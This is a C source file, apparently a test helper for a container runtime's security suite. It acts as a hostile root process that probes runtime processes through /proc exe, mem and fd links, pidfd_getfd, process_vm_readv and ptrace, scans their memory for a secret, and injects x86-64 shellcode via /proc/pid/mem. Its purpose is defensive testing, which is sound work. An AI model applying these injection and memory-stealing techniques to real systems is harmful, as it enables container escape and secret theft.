/* attacker.c: root inside a container, hunting for processes of the runtime.
 *
 * Built statically by tests/security/conftest.py and run as a container process. It
 * scans /proc of the container's pid namespace without pause for processes other than
 * itself and its own children, and for each one whose program is not the container's
 * busybox (that is, a process of the runtime that has not exec'd yet) it tries what a
 * hostile root would: readlink and open of /proc/<pid>/exe (O_PATH, kept), open of
 * /proc/<pid>/mem read-write (never written), and open of every /proc/<pid>/fd/N. One
 * line a finding on stdout:
 *
 *   seen PID EXE          a runtime process before exec (EXE: readlink, or "?")
 *   denied PID exe ERRNO  the kernel refused its exe link (the first time)
 *   got PID WHAT TARGET   the kernel let us have WHAT (exe, mem, fd/N)
 *
 * A process is tried again on every scan until it execs: a refusal before its
 * capabilities are dropped may be a grant after.
 *   exewrite RESULT       on SIGTERM: each kept exe reopened O_WRONLY and its first byte
 *                         written back ("ok" or errno)
 *
 * then "done" and exit 0 on SIGTERM. Arguments: more programs of the container's own
 * (their exe paths) besides /bin/busybox and /attacker.
 *
 * With "--probe" as its first argument it is driven instead (a window made deterministic
 * by the test, a staged or parked init, does not need a race): it reads commands on
 * stdin, one a line, and answers on stdout:
 *
 *   secret TOKEN    from now on, scan the memory of every process granted for TOKEN
 *   PID             try everything on PID, once: the exe link (kept, as above), mem
 *                   read-write, environ, maps, fd/ (each entry opened O_PATH and
 *                   O_RDWR), pidfd_getfd of descriptors 0..63, process_vm_readv,
 *                   PTRACE_SEIZE + PTRACE_INTERRUPT (then detached), a signal 0; then
 *                   the memory scan. "got PID WHAT ..." for what the kernel granted,
 *                   "denied PID WHAT ERRNO" for what it refused, "absent PID" if it is
 *                   not in our pid namespace, "probed PID" at the end
 *   self            our own descriptors ("selffd N TARGET") and the pids of our /proc
 *                   ("proc PID")
 *   inject PID      (x86-64) write a payload over the code PID returns to from the
 *                   syscall it waits in (/proc/PID/syscall, /proc/PID/mem): "got PID
 *                   inject PC" if the kernel let us; see payload[]
 *   write / EOF     the exewrite attempts above; on EOF then "done" and exit 0
 *
 * Arguments after --probe are PIDs probed before stdin is read. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static char **own_programs;    /* argv: the container's own programs, never ours */

static int is_own(const char *exe)
{
    if (strcmp(exe, "/bin/busybox") == 0 || strcmp(exe, "/attacker") == 0)
        return 1;
    for (char **p = own_programs; p && *p; p++)
        if (strcmp(exe, *p) == 0)
            return 1;
    return 0;
}
static int kept[4096], nkept;
static unsigned char state[1 << 16];   /* by pid: what we have had of it */

static void on_term(int sig) { (void)sig; stop = 1; }

enum { SEEN = 1, GOT_EXE = 2, GOT_MEM = 4, GOT_FDS = 8, DENIED = 16 };

/* After an open of /proc/<pid>/...: was it of the runtime's process, not of the program
 * it has exec'd since? Its exe must still not be one of the container's. (A refusal
 * means it is still ours and non-dumpable: then the open we made went through while it
 * was not, which counts.) */
static int still_ours(int pid)
{
    char path[64], target[512];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    ssize_t n = readlink(path, target, sizeof(target) - 1);
    if (n < 0)
        return errno != ENOENT;
    target[n] = 0;
    return !is_own(target);
}

/* Called on every scan while the process has not exec'd: a refusal now may be a grant a
 * moment later (capabilities are dropped just before exec). */
static void try_pid(int pid)
{
    char path[64], target[512];
    unsigned char *st = &state[pid & 0xffff];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    ssize_t n = readlink(path, target, sizeof(target) - 1);
    int err = errno;
    if (n >= 0) {
        target[n] = 0;
        if (is_own(target))
            return;   /* the container's own programs: fair game, not ours */
    } else if (err == ENOENT) {
        return;       /* gone, or a zombie */
    } else {
        strcpy(target, "?");
    }
    if (!(*st & SEEN)) {
        *st |= SEEN;
        printf("seen %d %s\n", pid, target);
    }
    if (n < 0 && !(*st & DENIED)) {
        *st |= DENIED;
        printf("denied %d exe %d\n", pid, err);
    }
    int fd;
    if (!(*st & GOT_EXE) && (fd = open(path, O_PATH | O_CLOEXEC)) >= 0) {
        /* The process may have exec'd since the readlink: what did we get? */
        char self[64], got[512];
        snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
        ssize_t g = readlink(self, got, sizeof(got) - 1);
        got[g >= 0 ? g : 0] = 0;
        if (is_own(got)) {
            close(fd);
        } else {
            *st |= GOT_EXE;
            printf("got %d exe %s\n", pid, got);
            if (nkept < 4096)
                kept[nkept++] = fd;
            else
                close(fd);
        }
    }
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    if (!(*st & GOT_MEM) && (fd = open(path, O_RDWR | O_CLOEXEC)) >= 0) {
        if (still_ours(pid)) {
            *st |= GOT_MEM;
            printf("got %d mem rw\n", pid);
        }
        close(fd);
    }
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    DIR *d;
    if (!(*st & GOT_FDS) && (d = opendir(path))) {
        struct dirent *de;
        while ((de = readdir(d))) {
            if (de->d_name[0] == '.')
                continue;
            char fdpath[300];
            snprintf(fdpath, sizeof(fdpath), "/proc/%d/fd/%s", pid, de->d_name);
            ssize_t m = readlink(fdpath, target, sizeof(target) - 1);
            target[m >= 0 ? m : 0] = 0;
            int f = open(fdpath, O_PATH | O_CLOEXEC);
            if (f >= 0 && still_ours(pid)) {
                *st |= GOT_FDS;
                printf("got %d fd/%s %s\n", pid, de->d_name, target);
            }
            if (f >= 0)
                close(f);
        }
        closedir(d);
    }
    fflush(stdout);
}

static void write_kept(void);
static int probe_main(char **argv);

int main(int argc, char **argv)
{
    if (argc > 1 && strcmp(argv[1], "--probe") == 0)
        return probe_main(argv + 2);
    own_programs = argv + 1;
    struct sigaction sa = { .sa_handler = on_term };
    sigaction(SIGTERM, &sa, NULL);
    setvbuf(stdout, NULL, _IOLBF, 0);
    int self = getpid();
    printf("ready %d\n", self);
    while (!stop) {
        DIR *d = opendir("/proc");
        if (!d)
            return 1;
        struct dirent *de;
        while (!stop && (de = readdir(d))) {
            int pid = atoi(de->d_name);
            if (pid > 0 && pid != self)
                try_pid(pid);
        }
        closedir(d);
    }
    write_kept();
    printf("done\n");
    return 0;
}

static void write_kept(void)
{
    for (int i = 0; i < nkept; i++) {
        char p[64];
        snprintf(p, sizeof(p), "/proc/self/fd/%d", kept[i]);
        /* A real write, of the byte that is there already: opening for writing is not
         * enough (a sealed memfd opens, then refuses every write). */
        char byte;
        int r = open(p, O_RDONLY | O_CLOEXEC);
        if (r < 0 || pread(r, &byte, 1, 0) != 1) {
            printf("exewrite %d\n", errno);
            continue;
        }
        close(r);
        int w = open(p, O_WRONLY | O_CLOEXEC);
        if (w >= 0 && pwrite(w, &byte, 1, 0) == 1)
            printf("exewrite ok\n");
        else
            printf("exewrite %d\n", errno);
        if (w >= 0)
            close(w);
    }
    nkept = 0;
}

/* --- probe mode ------------------------------------------------------------------- */

static char secret[512];

static void denied(int pid, const char *what, int err)
{
    printf("denied %d %s %d\n", pid, what, err);
}

/* Every readable region of PID's memory (through an open mem descriptor) searched for
 * the secret: "got PID secret ADDR" when it is there, else "scanned PID BYTES". */
static void scan_memory(int pid, int mem)
{
    char path[64], line[512];
    snprintf(path, sizeof(path), "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    if (!maps) {
        denied(pid, "scan", errno);
        return;
    }
    size_t len = strlen(secret), total = 0;
    static char buf[1 << 20];
    int found = 0;
    while (!found && fgets(line, sizeof(line), maps)) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r')
            continue;
        for (unsigned long at = lo; !found && at < hi; ) {
            /* Overlap the chunks by the secret's length: it may straddle two. */
            size_t want = hi - at < sizeof(buf) ? hi - at : sizeof(buf);
            ssize_t n = pread(mem, buf, want, (off_t)at);
            if (n <= 0)
                break;
            total += (size_t)n;
            if (memmem(buf, (size_t)n, secret, len)) {
                printf("got %d secret %lx\n", pid, at);
                found = 1;
            }
            if ((size_t)n < len + 1 || at + (unsigned long)n >= hi)
                break;
            at += (unsigned long)n - len;
        }
    }
    fclose(maps);
    if (!found)
        printf("scanned %d %zu\n", pid, total);
}

/* A read-write mem: write back the first byte of its first executable mapping (what is
 * there already, so nothing changes): the kernel lets us rewrite its code. */
static void write_code(int pid, int mem)
{
    char path[64], line[512];
    snprintf(path, sizeof(path), "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    if (!maps)
        return;
    unsigned long lo = 0, hi;
    char perms[8];
    while (fgets(line, sizeof(line), maps))
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[2] == 'x' &&
            !strchr(line, '['))           /* its own code, not the vdso */
            break;
        else
            lo = 0;
    fclose(maps);
    char byte;
    if (!lo || pread(mem, &byte, 1, (off_t)lo) != 1)
        return;
    if (pwrite(mem, &byte, 1, (off_t)lo) == 1)
        printf("got %d codewrite %lx\n", pid, lo);
    else
        denied(pid, "codewrite", errno);
}

static void probe_file(int pid, const char *name, int flags)
{
    char path[64], buf[64];
    snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0) {
        denied(pid, name, errno);
        return;
    }
    /* environ and maps check again at read: an open alone proves little. */
    ssize_t n = read(fd, buf, sizeof(buf));
    if (n >= 0 || flags != O_RDONLY)
        printf("got %d %s %zd\n", pid, name, n);
    else
        denied(pid, name, errno);
    close(fd);
}

static void probe_pid(int pid)
{
    char path[64], target[512];
    snprintf(path, sizeof(path), "/proc/%d", pid);
    if (access(path, F_OK) < 0) {
        printf("absent %d\n", pid);
        if (kill(pid, 0) == 0)
            printf("got %d signal\n", pid);   /* a process /proc does not show */
        printf("probed %d\n", pid);
        return;
    }
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    ssize_t n = readlink(path, target, sizeof(target) - 1);
    if (n >= 0) {
        target[n] = 0;
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd >= 0) {
            printf("got %d exe %s\n", pid, target);
            if (nkept < 4096)
                kept[nkept++] = fd;
            else
                close(fd);
        }
    } else {
        denied(pid, "exe", errno);
    }
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR | O_CLOEXEC);
    if (mem >= 0)
        printf("got %d mem rw\n", pid);
    else
        denied(pid, "mem", errno);
    if (mem < 0 && (mem = open(path, O_RDONLY | O_CLOEXEC)) >= 0)
        printf("got %d mem ro\n", pid);
    /* First, while it waits as it was: what follows may disturb it. */
    if (mem >= 0 && secret[0])
        scan_memory(pid, mem);
    if (mem >= 0)
        write_code(pid, mem);
    probe_file(pid, "environ", O_RDONLY);
    probe_file(pid, "maps", O_RDONLY);
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (d) {
        struct dirent *de;
        while ((de = readdir(d))) {
            if (de->d_name[0] == '.')
                continue;
            char fdpath[300];
            snprintf(fdpath, sizeof(fdpath), "/proc/%d/fd/%s", pid, de->d_name);
            ssize_t m = readlink(fdpath, target, sizeof(target) - 1);
            target[m >= 0 ? m : 0] = 0;
            int f = open(fdpath, O_PATH | O_CLOEXEC);
            if (f >= 0) {
                printf("got %d fd/%s %s\n", pid, de->d_name, target);
                close(f);
            } else {
                denied(pid, "fd", errno);
            }
            /* A socket refuses an open through its link (ENXIO) even when the check
             * passed: only pidfd_getfd below steals it. A FIFO is left alone: opened, it
             * would release a staged init waiting for its reader. */
            struct stat st;
            if (stat(fdpath, &st) == 0 && !S_ISFIFO(st.st_mode) &&
                (f = open(fdpath, O_RDWR | O_CLOEXEC)) >= 0) {
                printf("got %d fdopen/%s %s\n", pid, de->d_name, target);
                close(f);
            }
        }
        closedir(d);
    } else {
        denied(pid, "fd", errno);
    }
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd >= 0) {
        int first = 0;
        for (int i = 0; i < 64; i++) {
            int f = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
            if (f < 0) {
                if (errno != EBADF && !first++)
                    denied(pid, "getfd", errno);
                continue;
            }
            char self[64];
            snprintf(self, sizeof(self), "/proc/self/fd/%d", f);
            ssize_t m = readlink(self, target, sizeof(target) - 1);
            target[m >= 0 ? m : 0] = 0;
            printf("got %d getfd/%d %s\n", pid, i, target);
            close(f);
        }
        close(pidfd);
    } else {
        denied(pid, "pidfd", errno);
    }
    /* An address nothing maps: EFAULT (or a byte) means the access check passed. */
    char byte;
    struct iovec local = { &byte, 1 }, remote = { (void *)0x1000, 1 };
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
        printf("got %d vm\n", pid);
    else
        denied(pid, "vm", errno);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        printf("got %d ptrace\n", pid);
        /* Stop it to detach it (a running tracee cannot be), and let it go on. */
        int status;
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
            waitpid(pid, &status, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    } else {
        denied(pid, "ptrace", errno);
    }
    printf(kill(pid, 0) == 0 ? "signal %d ok\n" : "signal %d denied\n", pid);
    if (mem >= 0)
        close(mem);
    printf("probed %d\n", pid);
}

/* x86-64: sethostname("pwned", 5), then exit_group(42 + its result): 42 if it worked,
 * 41 if refused (-EPERM). Written over the code a process returns to from the syscall it
 * waits in, it runs as that process when the syscall returns. */
static const unsigned char payload[] = {
    0x48, 0x8d, 0x3d, 22, 0, 0, 0,     /* lea rdi, [rip + 22]: the name */
    0xbe, 5, 0, 0, 0,                  /* mov esi, 5 */
    0xb8, 170, 0, 0, 0,                /* mov eax, SYS_sethostname */
    0x0f, 0x05,                        /* syscall */
    0x8d, 0x78, 42,                    /* lea edi, [rax + 42] */
    0xb8, 231, 0, 0, 0,                /* mov eax, SYS_exit_group */
    0x0f, 0x05,                        /* syscall */
    'p', 'w', 'n', 'e', 'd',
};

static void inject(int pid)
{
#if defined(__x86_64__)
    char path[64], line[512];
    snprintf(path, sizeof(path), "/proc/%d/syscall", pid);
    FILE *f = fopen(path, "re");
    if (!f || !fgets(line, sizeof(line), f)) {
        denied(pid, "inject", errno);
        if (f)
            fclose(f);
        return;
    }
    fclose(f);
    /* "NR ARG1 ... ARG6 SP PC": where it goes on when the syscall returns. */
    char *last = strrchr(line, ' ');
    unsigned long pc = last ? strtoul(last + 1, NULL, 16) : 0;
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR | O_CLOEXEC);
    if (!pc || mem < 0) {
        denied(pid, "inject", mem < 0 ? errno : EINVAL);
        return;
    }
    if (pwrite(mem, payload, sizeof(payload), (off_t)pc) == (ssize_t)sizeof(payload))
        printf("got %d inject %lx\n", pid, pc);
    else
        denied(pid, "inject", errno);
    close(mem);
#else
    denied(pid, "inject", ENOSYS);
#endif
}

static void probe_self(void)
{
    DIR *d = opendir("/proc/self/fd");
    struct dirent *de;
    char path[300], target[512];
    while (d && (de = readdir(d))) {
        if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(d))
            continue;
        snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
        ssize_t m = readlink(path, target, sizeof(target) - 1);
        target[m >= 0 ? m : 0] = 0;
        printf("selffd %s %s\n", de->d_name, target);
    }
    if (d)
        closedir(d);
    d = opendir("/proc");
    while (d && (de = readdir(d)))
        if (atoi(de->d_name) > 0)
            printf("proc %s\n", de->d_name);
    if (d)
        closedir(d);
    printf("selfdone\n");
}

static int probe_main(char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    signal(SIGPIPE, SIG_IGN);
    printf("ready %d\n", getpid());
    for (; *argv; argv++)
        probe_pid(atoi(*argv));
    char line[512];
    while (fgets(line, sizeof(line), stdin)) {
        line[strcspn(line, "\n")] = 0;
        if (strncmp(line, "secret ", 7) == 0)
            snprintf(secret, sizeof(secret), "%s", line + 7);
        else if (strcmp(line, "self") == 0)
            probe_self();
        else if (strncmp(line, "inject ", 7) == 0)
            inject(atoi(line + 7));
        else if (strcmp(line, "write") == 0)
            write_kept();
        else if (atoi(line) > 0)
            probe_pid(atoi(line));
    }
    write_kept();
    printf("done\n");
    return 0;
}
